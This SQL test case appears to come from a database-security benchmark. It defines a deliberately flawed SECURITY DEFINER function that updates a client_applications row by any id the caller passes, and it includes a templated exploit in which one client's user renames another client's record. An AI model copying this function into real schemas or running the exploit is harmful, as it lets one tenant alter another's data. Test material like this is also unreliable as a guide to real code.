-- mutant: A definer function takes a whole row and saves it by its id
-- base: flows
-- family: function
-- leaks: values of another client
create function flows.save_application(app flows.client_applications) returns void
language sql volatile security definer set search_path = ''
as $$ update flows.client_applications a set app_name = coalesce(app.app_name, 'Unnamed') where a.id = app.id $$;
revoke all on function flows.save_application(flows.client_applications) from public;
grant execute on function flows.save_application(flows.client_applications) to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
do $$ declare r flows.client_applications; begin r.id := '{{b}}'; r.app_name := 'Saved'; perform flows.save_application(r); end $$;
